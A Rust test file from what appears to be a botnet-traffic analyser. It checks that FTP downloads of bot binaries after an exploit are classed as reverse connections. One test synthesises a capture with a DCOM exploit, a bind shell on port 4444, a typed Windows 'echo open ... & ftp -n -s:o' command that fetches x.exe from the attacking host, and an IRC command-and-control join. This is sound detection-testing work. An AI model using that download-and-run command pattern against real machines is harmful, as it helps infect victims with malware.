//! Issue 15, Table 8: a binary the victim fetched from the infecting host
//! over FTP is a reverse connection (the victim started the exchange),
//! even when the data came over an active-mode connection the infecting
//! host opened; `tcp_push` is left for unprompted pushes.

use botscope_behavior::analysis::{analyze, Inputs, Options};
use botscope_behavior::pipeline;
use botscope_behavior::sink::{BinaryTransfer, Limits};
use botscope_capture::{read_files, EngineConfig};
use botscope_core::events::{Event, Evidence, FtpEvent};
use botscope_core::exploit::{ExploitEvent, ExploitVector};
use botscope_core::{FlowKey, Proto, Ts};
use botscope_dissect::{Analyzer, Record};
use botscope_synth::exploits::{client_script, SmbIds};
use botscope_synth::pcap::PcapFile;
use botscope_synth::tcp::Tcp;
use botscope_synth::truth::Vector;
use sha2::{Digest, Sha256};
use std::net::Ipv4Addr;
use std::path::PathBuf;

fn corpus() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus")
}

fn ftp_of(path: &PathBuf) -> Vec<FtpEvent> {
    ftp_with(path, &EngineConfig::default())
}

/// FTP events of `path` read with `cfg`.
fn ftp_with(path: &PathBuf, cfg: &EngineConfig) -> Vec<FtpEvent> {
    let mut an = Analyzer::new(Vec::new());
    read_files(std::slice::from_ref(path), cfg, &mut an).unwrap();
    an.finish();
    let records: Vec<Record> = an.into_sink();
    records
        .into_iter()
        .filter_map(|r| match r.event {
            Event::Ftp(f) => Some(f),
            _ => None,
        })
        .collect()
}

/// An exploit of `v` by `a` on `port`, one second before `first`: the
/// infection a real FTP session is then taken to follow.
fn exploit_before(
    first: Ts,
    a: std::net::IpAddr,
    v: std::net::IpAddr,
    port: u16,
    vector: ExploitVector,
) -> ExploitEvent {
    ExploitEvent {
        ts: Ts(first.0 - 1_000_000),
        uid: "Cexploit".into(),
        id: FlowKey {
            orig_h: a,
            orig_p: 4321,
            resp_h: v,
            resp_p: port,
            proto: Proto::Tcp,
        },
        vector,
        detail: String::new(),
        stream_offset: 0,
        evidence: Evidence::default(),
    }
}

#[test]
fn zeek_active_mode_retr_is_a_reverse_connection_not_a_push() {
    // Zeek's real FTP session (ipv4.pcap): the client fetches robots.txt
    // once over PASV and once over PORT, where the server opens the data
    // connection. Treat the server as the infecting host and the client as
    // its victim, and the active data connection as the executable the
    // behaviour sink saw (a connection from A to V that carried it).
    let ftp = ftp_of(&corpus().join("zeek/testing/btest/Traces/ftp/ipv4.pcap"));
    let active = ftp
        .iter()
        .filter(|f| f.command == "RETR")
        .filter_map(|f| f.transfer.clone())
        .find(|t| t.id.resp_p == 37835)
        .expect("active-mode RETR data connection");
    let first = ftp.iter().map(|f| f.ts).min().unwrap();
    let (a, v) = (ftp[0].id.resp_h, ftp[0].id.orig_h);
    assert_eq!(
        active.id.orig_h, a,
        "the infecting host opened the data connection"
    );
    let exploit = exploit_before(first, a, v, 135, ExploitVector::Ms03_026);
    let push = BinaryTransfer {
        uid: active.uid.clone(),
        id: active.id,
        from_orig: true,
        ts: ftp
            .iter()
            .find(|f| f.transfer.as_ref() == Some(&active))
            .unwrap()
            .ts,
        size: active.bytes,
        sha256: active.sha256.clone().unwrap(),
        pe_size: None,
        complete: true,
        evidence: Evidence::default(),
    };
    let mut inp = Inputs {
        exploits: vec![exploit],
        binaries: vec![push],
        ftp: ftp.clone(),
        ..Default::default()
    };
    let r = analyze(&inp, &Options::default());
    assert_eq!(r.copies.len(), 1);
    let c = &r.copies[0];
    assert_eq!(
        (c.method.as_str(), c.via.as_str()),
        ("reverse_connect", "ftp")
    );
    assert_eq!(c.uid, ftp[0].uid, "evidence: the FTP control connection");
    assert_eq!(c.filename.as_deref(), Some("robots.txt"));
    assert_eq!(c.size, 77);
    assert!(c.success);
    assert!(r.table8.iter().all(|row| row.key != "tcp_push"));
    // Without the FTP session the same bytes look like a push: the old label.
    inp.ftp.clear();
    let r = analyze(&inp, &Options::default());
    assert_eq!(r.copies[0].method, "tcp_push");
}

/// The issue's case written as a capture: exploit, bind shell with the
/// typed `echo open ... & ftp -n -s:o` script, FTP to the infecting host
/// on a non-standard port, active mode, an `MZ` file over the data
/// connection the infecting host opens.
fn shell_ftp_capture(path: &std::path::Path) -> (Vec<u8>, [u8; 32]) {
    let a = Ipv4Addr::new(10, 0, 0, 66);
    let v = Ipv4Addr::new(192, 168, 1, 20);
    let mut f = PcapFile::create(path).unwrap();
    let mut t = 1_116_500_000_000_000i64;
    let script = client_script(
        Vector::Ms03_026,
        &a.to_string(),
        &v.to_string(),
        None,
        None,
        "",
        600,
        [7; 16],
        SmbIds::default(),
    );
    let mut c = Tcp::new(a, 1044, v, 135, t, 1000);
    c.handshake(&mut f);
    for (msg, reply) in script.messages.iter().zip(&script.replies) {
        c.c_send(&mut f, msg);
        if let Some(reply) = reply {
            c.s_send(&mut f, reply);
        }
    }
    c.server_reset(&mut f);
    t = c.t + 500_000;
    // Bind shell on 4444: the attacker types the FTP script.
    let mut sh = Tcp::new(a, 1045, v, 4444, t, 2000);
    sh.handshake(&mut f);
    sh.s_send(
        &mut f,
        b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>",
    );
    sh.c_send(
        &mut f,
        b"echo open 10.0.0.66 2121 > o & echo user 1 1 >> o & echo binary >> o & echo get x.exe >> o & echo bye >> o & ftp -n -s:o\r\n",
    );
    t = sh.t + 200_000;
    let mut body = b"MZ".to_vec();
    body.extend((0..6000u32).map(|i| (i * 7 % 251) as u8));
    let sha: [u8; 32] = Sha256::digest(&body).into();
    let mut ctl = Tcp::new(v, 1046, a, 2121, t, 3000);
    ctl.handshake(&mut f);
    ctl.s_send(&mut f, b"220 StnyFtpd 0wns j0\r\n");
    for (cmd, reply) in [
        (&b"USER 1\r\n"[..], &b"331 Password required\r\n"[..]),
        (b"PASS 1\r\n", b"230 User logged in.\r\n"),
        (b"TYPE I\r\n", b"200 Type set to I.\r\n"),
        (
            b"PORT 192,168,1,20,4,23\r\n",
            b"200 PORT command successful.\r\n",
        ),
    ] {
        ctl.c_send(&mut f, cmd);
        ctl.s_send(&mut f, reply);
    }
    ctl.c_send(&mut f, b"RETR x.exe\r\n");
    ctl.s_send(
        &mut f,
        format!(
            "150 Opening BINARY mode data connection for x.exe ({} bytes).\r\n",
            body.len()
        )
        .as_bytes(),
    );
    // Active mode: the infecting host connects from port 20 to 1047.
    let mut data = Tcp::new(a, 20, v, 1047, ctl.t + 10_000, 4000);
    data.handshake(&mut f);
    data.c_send(&mut f, &body);
    data.close(&mut f, true);
    ctl.t = data.t + 10_000;
    ctl.s_send(&mut f, b"226 Transfer complete.\r\n");
    ctl.c_send(&mut f, b"QUIT\r\n");
    ctl.s_send(&mut f, b"221 Goodbye.\r\n");
    ctl.close(&mut f, true);
    sh.t = ctl.t + 100_000;
    sh.close(&mut f, true);
    // The new bot joins its C&C channel.
    let mut irc = Tcp::new(
        v,
        1048,
        Ipv4Addr::new(10, 0, 0, 99),
        6667,
        sh.t + 2_000_000,
        5000,
    );
    irc.handshake(&mut f);
    irc.c_send(&mut f, b"NICK bot-1234\r\nUSER bot 0 0 :bot\r\n");
    irc.s_send(&mut f, b":cc.example 001 bot-1234 :Welcome\r\n");
    irc.c_send(&mut f, b"JOIN #x key\r\n");
    irc.s_send(&mut f, b":bot-1234!bot@192.168.1.20 JOIN :#x\r\n");
    irc.close(&mut f, true);
    f.finish().unwrap();
    (body, sha)
}

#[test]
fn typed_ftp_script_fetch_over_active_mode_is_reverse_connect() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("shell-ftp.pcap");
    let (body, sha) = shell_ftp_capture(&pcap);
    // tshark agrees on the FTP exchange (decoded as FTP on port 2121).
    if let Ok(o) = std::process::Command::new("tshark")
        .args(["-r", pcap.to_str().unwrap(), "-d", "tcp.port==2121,ftp"])
        .args([
            "-Y",
            "ftp.request.command == \"RETR\" || ftp.request.command == \"PORT\"",
        ])
        .args([
            "-T",
            "fields",
            "-e",
            "ftp.request.command",
            "-e",
            "ftp.request.arg",
        ])
        .output()
    {
        if o.status.success() {
            let out = String::from_utf8_lossy(&o.stdout);
            assert_eq!(
                out.lines().collect::<Vec<_>>(),
                vec!["PORT\t192,168,1,20,4,23", "RETR\tx.exe"]
            );
        }
    }
    let (report, summary) = pipeline::run(
        &[pcap],
        &EngineConfig::default(),
        Limits::default(),
        &Options::default(),
    )
    .unwrap();
    assert_eq!(summary.dissect.services.get("ftp"), Some(&1));
    assert_eq!(summary.dissect.services.get("ftp-data"), Some(&1));
    // The FTP session on 2121 is not IRC; the C&C session on 6667 is.
    assert_eq!(summary.dissect.services.get("irc"), Some(&1));
    assert_eq!(summary.dissect.services.get("shell"), Some(&1));
    assert_eq!(report.exploits.len(), 1, "the DCOM exploit is seen");
    assert_eq!(report.copies.len(), 1);
    let c = &report.copies[0];
    assert_eq!(
        (c.method.as_str(), c.via.as_str()),
        ("reverse_connect", "ftp")
    );
    assert_eq!(c.filename.as_deref(), Some("x.exe"));
    assert_eq!(c.size, body.len() as u64);
    assert_eq!(c.sha256.as_deref(), Some(hex::encode(sha).as_str()));
    assert!(c.success);
    assert_eq!(report.table8.len(), 1);
    assert_eq!(report.table8[0].key, "reverse_connect");
    // Table 9: the C&C session only, not the FTP session on 2121.
    let ports: Vec<u16> = report.sessions.iter().map(|s| s.port).collect();
    assert_eq!(ports, vec![6667]);
    let t9: Vec<&str> = report.table9.iter().map(|r| r.key.as_str()).collect();
    assert_eq!(t9, vec!["6667"]);
    // Fig. 3: the shell the exploit opened comes between exploit and copy.
    let seq = report
        .sequences
        .iter()
        .find(|s| s.bot.to_string() == "192.168.1.20")
        .expect("the victim's sequence");
    let stages: Vec<&str> = seq.stages.iter().map(|s| s.stage.as_str()).collect();
    assert_eq!(stages, vec!["exploit", "shell", "copy", "irc_join"]);
}

#[test]
fn typed_ftp_script_is_read_from_the_shell() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("shell-ftp.pcap");
    shell_ftp_capture(&pcap);
    let mut an = Analyzer::new(Vec::new());
    read_files(&[pcap], &EngineConfig::default(), &mut an).unwrap();
    an.finish();
    let shell: Vec<_> = an
        .into_sink()
        .into_iter()
        .filter_map(|r| match r.event {
            Event::Shell(s) => Some(s),
            _ => None,
        })
        .collect();
    assert_eq!(shell.len(), 1);
    let s = &shell[0];
    assert_eq!(s.shell_host.to_string(), "192.168.1.20");
    assert_eq!(s.peer.to_string(), "10.0.0.66");
    assert_eq!(s.id.resp_p, 4444);
    let f = s.fetch.as_ref().expect("the typed FTP script");
    assert_eq!(
        (f.tool.as_str(), f.host.as_str(), f.port, f.file.as_deref()),
        ("ftp", "10.0.0.66", Some(2121), Some("x.exe"))
    );
}

#[test]
fn synthetic_fields_ftp_fetches_are_reverse_connections() {
    // botscope-synth renders the reverse connections on an even port as an
    // FTP fetch (passive mode); each must come out as reverse_connect via
    // FTP with the truth's hash, and every other copy not via FTP.
    let mut seen = 0;
    for seed in [1u64, 7] {
        let dir = tempfile::tempdir().unwrap();
        let cfg = botscope_synth::SynthConfig {
            seed,
            resolver_logs: false,
            ..Default::default()
        };
        let truth = botscope_synth::generate(&cfg, dir.path()).expect("synth");
        let paths = vec![
            dir.path().join("pcap/honeynet-exploits.pcap"),
            dir.path().join("pcap/infected.pcap"),
        ];
        let (report, _) = pipeline::run(
            &paths,
            &EngineConfig::default(),
            Limits::default(),
            &Options::default(),
        )
        .unwrap();
        let want: Vec<(String, bool)> = truth
            .copies
            .iter()
            .filter(|c| {
                c.method == botscope_synth::truth::CopyMethod::ReverseConnect
                    && c.flow.resp_p.is_multiple_of(2)
            })
            .map(|c| (c.sha256.clone(), c.success))
            .collect();
        let mut got: Vec<(String, bool)> = report
            .copies
            .iter()
            .filter(|c| c.via == "ftp")
            .map(|c| {
                assert_eq!(c.method, "reverse_connect");
                (c.sha256.clone().unwrap_or_default(), c.success)
            })
            .collect();
        // Failed fetches hash the partial file; compare the successful ones.
        // (The truth lists copies by plan, the report by time: compare as
        // sorted lists; the field has FTP fetches in both captures.)
        let mut ok_want: Vec<&String> = want.iter().filter(|w| w.1).map(|w| &w.0).collect();
        let mut ok_got: Vec<&String> = got.iter().filter(|g| g.1).map(|g| &g.0).collect();
        ok_want.sort();
        ok_got.sort();
        assert_eq!(ok_got, ok_want, "seed {seed}");
        got.sort();
        assert_eq!(got.len(), want.len(), "seed {seed}");
        seen += want.len();
    }
    assert!(seen > 0, "no FTP fetch in the synthetic fields");
}

fn realworld() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/realworld")
}

/// Table 8 on a real FTP fetch: the server of `capture` taken as the
/// infecting host (an exploit one second before the first command), its
/// client as the victim; returns the one copy analysis finds.
fn copy_of_real_fetch(capture: &str) -> botscope_behavior::analysis::CopyRow {
    // Both captures carry offloaded checksums: `auto`, the CLI default.
    let cfg = EngineConfig {
        checksums: botscope_capture::ChecksumMode::Auto,
        ..Default::default()
    };
    let ftp = ftp_with(&realworld().join(capture), &cfg);
    let first = ftp.iter().map(|f| f.ts).min().expect("FTP commands");
    let (a, v) = (ftp[0].id.resp_h, ftp[0].id.orig_h);
    let exploit = exploit_before(first, a, v, 445, ExploitVector::Ms04_011);
    let inp = Inputs {
        exploits: vec![exploit],
        ftp,
        ..Default::default()
    };
    let r = analyze(&inp, &Options::default());
    assert_eq!(r.copies.len(), 1, "{capture}: one copy");
    r.copies[0].clone()
}

#[test]
fn realworld_cut_off_ftp_transfer_is_a_partial_copy() {
    // nDPI's ftp.pcap: `SIZE 1MB.zip` -> `213 1048576`, RETR over PASV, the
    // capture ends after 109,440 bytes of the data connection (nDPI's
    // report and tshark agree on the byte count). A 226 is on the control
    // connection, yet the copy did not complete.
    let c = copy_of_real_fetch("ndpi/tests/cfgs/default/pcap/ftp.pcap");
    assert_eq!(
        (c.method.as_str(), c.via.as_str()),
        ("reverse_connect", "ftp")
    );
    assert_eq!(c.filename.as_deref(), Some("1MB.zip"));
    assert_eq!(c.size, 109_440);
    assert_eq!(c.announced_size, Some(1_048_576));
    // No byte of what was captured is missing, so the hash alone would
    // have called this a complete copy.
    assert!(c.sha256.is_some());
    assert!(!c.success, "109,440 of 1,048,576 bytes is not a copy");
}

#[test]
fn realworld_complete_ftp_transfer_is_a_successful_copy() {
    // suricata-verify filestore-ftp-active-mode: 150 announces 39 bytes, the
    // active data connection carries 39 (Suricata stores exactly 1 file).
    let c =
        copy_of_real_fetch("suricata-verify/tests/filestore-ftp-active-mode/ftp-active-mode.pcap");
    assert_eq!(c.filename.as_deref(), Some("index.html"));
    assert_eq!((c.size, c.announced_size), (39, Some(39)));
    assert!(c.sha256.is_some());
    assert!(c.success);
}
